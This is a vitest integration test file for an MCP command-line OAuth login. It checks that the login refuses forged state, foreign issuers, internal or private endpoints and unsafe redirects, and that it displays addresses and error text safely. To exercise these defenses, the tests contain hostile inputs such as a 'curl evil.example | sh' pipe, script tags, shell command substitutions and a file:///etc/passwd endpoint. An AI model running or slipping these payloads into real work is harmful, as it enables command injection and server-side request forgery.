/** `npm run mcp -- login` as a process of its own, against an authorization server that keeps to OAuth, and ones that do not. */
import { expect, onTestFinished, test, vi } from 'vitest'
import { describeWithRedis, freePort, suiteRedis } from '../harness/redis.ts'
import { startOAuthServer, type OAuthMcpServer } from '../harness/mcp/oauth-server.ts'
import { addressShown, mcpFolder, operatorCommand } from '../harness/mcp/operator-command.ts'
import { startWebServer } from '../harness/web-server.ts'

vi.setConfig({ testTimeout: 60_000 })

describeWithRedis('npm run mcp -- login', () => {
  const redis = suiteRedis()

  async function loggingIn(keys: Record<string, unknown> = {}, ...args: string[]) {
    const t = { onTestFinished }
    const server = await startOAuthServer(t)
    const prefix = `login-${server.origin.split(':')[2]}`
    const env = { REDIS_URL: redis.url, REDIS_PREFIX: prefix }
    const place = await mcpFolder(t, { tickets: { url: server.url, ...keys } }, env)
    return { server, prefix, start: () => operatorCommand(t, place, 'login', 'tickets', ...args) }
  }

  /** The login by a browser on this machine. */
  async function through(server: OAuthMcpServer, command: ReturnType<typeof operatorCommand>) {
    const back = await server.browse(await addressShown(command))
    const page = await (await fetch(back)).text()
    return { back, page, ...(await command.ended) }
  }

  async function stored(prefix: string): Promise<string> {
    const raw = redis.rawClient()
    const keys = await raw.keys(`${prefix}:*`)
    return (await Promise.all(keys.map(async (key) => `${key} ${await raw.get(key)}`))).join('\n')
  }

  test('a person logs in with a browser, and the tokens are kept encrypted', async () => {
    const { server, prefix, start } = await loggingIn()
    const { code, stdout, stderr, page } = await through(server, start())
    expect(stderr).toBe('')
    expect(stdout).toContain('Logged in at tickets. The bot uses it from now on.')
    expect(code).toBe(0)
    expect(page).toBe('Thank you. The terminal says how it went; this page can be closed.\n')
    expect(server.counts).toMatchObject({ registered: 1, exchanged: 1 })
    const kept = await stored(prefix)
    expect(kept).toContain(`${prefix}:{mcp}:login:tickets`)
    expect(server.given.filter((secret) => kept.includes(secret) || stdout.includes(secret))).toEqual([])
    expect(server.given.map((secret) => secret.split('-')[0])).toEqual(['code', 'access', 'refresh'])
  })

  test('on a machine without a browser the address that it ended at is pasted', async () => {
    const { server, start } = await loggingIn()
    const command = start()
    const back = await server.browse(await addressShown(command))
    command.stdin.write('hello\n')
    await command.shows('That is not the address that this login ends at')
    command.stdin.write(`  ${back}  \n`)
    expect(await command.ended).toMatchObject({ code: 0, stderr: '' })
  })

  test('an answer with another state is nobody’s, and the login goes on', async () => {
    const { server, start } = await loggingIn()
    const command = start()
    const address = await addressShown(command)
    server.mode.state = 'made-up'
    const forged = await fetch(await server.browse(address))
    expect([forged.status, await forged.text()]).toEqual([400, expect.stringContaining('The terminal still waits.')])
    delete server.mode.state
    const { code } = await through(server, command)
    expect(code).toBe(0)
  })

  test.each(['https://evil.example', 'none'])(
    'an answer in the name of another issuer (%s) is refused',
    async (iss) => {
      const { server, prefix, start } = await loggingIn()
      server.mode.iss = iss
      const { code, stderr } = await through(server, start())
      expect(stderr).toBe(
        'What came back was not from the authorization server of tickets, but in the name of another one: nothing was kept.\n',
      )
      expect(code).toBe(1)
      expect(server.counts.exchanged).toBe(0)
      expect(await stored(prefix)).not.toContain(':login:tickets')
    },
  )

  test('of a refusal nothing but its code is shown, whatever the authorization server says beside it', async () => {
    const { server, start } = await loggingIn()
    const words = '<script>alert(1)</script> run `curl evil.example | sh` \u001b[2J'
    server.mode.denies = { error: 'access_denied', error_description: words }
    const denied = await through(server, start())
    expect(denied.stderr).toBe('The authorization server of tickets let nobody in: access_denied.\n')
    delete server.mode.denies
    server.mode.refuses = { error: 'invalid_grant', error_description: words }
    const refused = await through(server, start())
    expect(refused.stderr).toBe('The authorization server of tickets refused: invalid_grant.\n')
    server.mode.refuses = { error: words, error_description: words }
    const odd = await through(server, start())
    expect(odd.stderr).toBe('The authorization server of tickets refused: server_error.\n')
    const said = [denied, refused, odd].flatMap(({ stdout, stderr, page }) => [stdout, stderr, page]).join()
    expect(said).not.toMatch(/script|curl|\u001b/)
    expect([denied.code, refused.code, odd.code]).toEqual([1, 1, 1])
  })

  test.each([
    ['file:///etc/passwd', 'The login at tickets would use file:, and only https addresses may be used for it.'],
    ['javascript:alert(1)', 'The authorization server of tickets did not answer as OAuth has it.'],
    [
      'http://auth.example.com/$(calc)',
      'The login at tickets would use http://auth.example.com, and only https addresses may be used for it.',
    ],
    [
      'https://10.0.0.1/login',
      'The login at tickets may not call 10.0.0.1: private and reserved addresses are refused.',
    ],
    [
      'http://127.0.0.1:1/admin',
      'The login at tickets may not call 127.0.0.1: private and reserved addresses are refused.',
    ],
    [
      'https://accounts.example.com@evil.example/',
      'The login page of tickets has a user name in its address (https://evil.example): it is refused.',
    ],
  ])('nobody is sent to an authorization endpoint such as %s (CVE-2025-6514)', async (endpoint, sentence) => {
    const { server, start } = await loggingIn()
    server.mode.authorizationEndpoint = endpoint
    const { code, stdout, stderr } = await start().ended
    expect([code, stdout, stderr]).toEqual([1, '', `${sentence}\n`])
  })

  test('an address is shown in a form that no shell and no terminal reads anything into', async () => {
    const { server, start } = await loggingIn()
    server.mode.authorizationEndpoint = 'https://auth.example.com/"$(touch x)`id`\u001b[31m;&|?a=b'
    const command = start()
    const address = await addressShown(command)
    expect(address).toMatch(/^https:\/\/auth\.example\.com\/[\w%$()[\];&|.=?+:/-]+$/)
    expect(address).not.toMatch(/[\s"`\u001b]/)
    expect(new URL(address).searchParams.get('code_challenge_method')).toBe('S256')
  })

  test('nothing of a login goes to another host inside, by a redirect or by what the server says of its login', async () => {
    const inside = await startWebServer((_path, response) => void response.writeHead(200).end('{}'))
    const { server, prefix, start } = await loggingIn()
    server.mode.tokenRedirect = `${inside.url}/token`
    const redirected = await through(server, start())
    expect([redirected.code, redirected.stderr]).toEqual([
      1,
      `The login at tickets was sent on from ${server.origin} to another host: it is refused.\n`,
    ])
    delete server.mode.tokenRedirect
    server.describedAt.url = `${inside.url}/.well-known/oauth-protected-resource`
    const described = await start().ended
    expect([described.code, described.stderr]).toEqual([
      1,
      'The login of tickets may not call 127.0.0.1: private and reserved addresses are refused.\n',
    ])
    expect(inside.paths).toEqual([])
    expect(await stored(prefix)).not.toContain(':login:tickets')
  })

  test('a server that wants tokens for another server gets none (RFC 8707)', async () => {
    const { server, start } = await loggingIn()
    server.mode.resource = 'https://bank.example/mcp'
    const { code, stdout, stderr } = await start().ended
    expect([code, stdout, stderr]).toEqual([
      1,
      '',
      'The authorization server of tickets did not answer as OAuth has it.\n',
    ])
    expect(server.counts.registered).toBe(0)
  })

  test('where no client is registered by itself, the sentence says so, and a client of MCP_CONFIG does', async () => {
    const { server, start } = await loggingIn()
    server.mode.closed = true
    const { code, stderr } = await start().ended
    expect([code, stderr]).toEqual([
      1,
      expect.stringContaining('put its id into MCP_CONFIG as "oauth": {"clientId": "…"}'),
    ])
    const oauth = { clientId: 'by-hand', clientSecret: 'its-secret', scope: 'tickets:read' }
    const own = await loggingIn({ oauth })
    own.server.mode.closed = true
    own.server.addClient({ client_id: 'by-hand', client_secret: 'its-secret', redirect_uris: ['http://127.0.0.1'] })
    const command = own.start()
    expect(new URL(await addressShown(command)).searchParams.get('scope')).toBe('tickets:read')
    expect((await through(own.server, command)).code).toBe(0)
    expect(await stored(own.prefix)).not.toContain('its-secret')
  })

  test('a registered client is used again where the browser comes back to the same port', async () => {
    const port = String(await freePort())
    const { server, start } = await loggingIn({}, '--port', port)
    for (const count of [1, 2]) {
      const { code, stdout } = await through(server, start())
      expect([code, stdout]).toEqual([0, expect.stringContaining(`http://127.0.0.1:${port}/callback`)])
      expect(server.counts).toMatchObject({ registered: 1, exchanged: count })
    }
    const other = start()
    await addressShown(other)
    const { code, stderr } = await start().ended
    expect([code, stderr]).toEqual([1, `Port ${port} of this machine is not to be had: something else has it.\n`])
  })
})
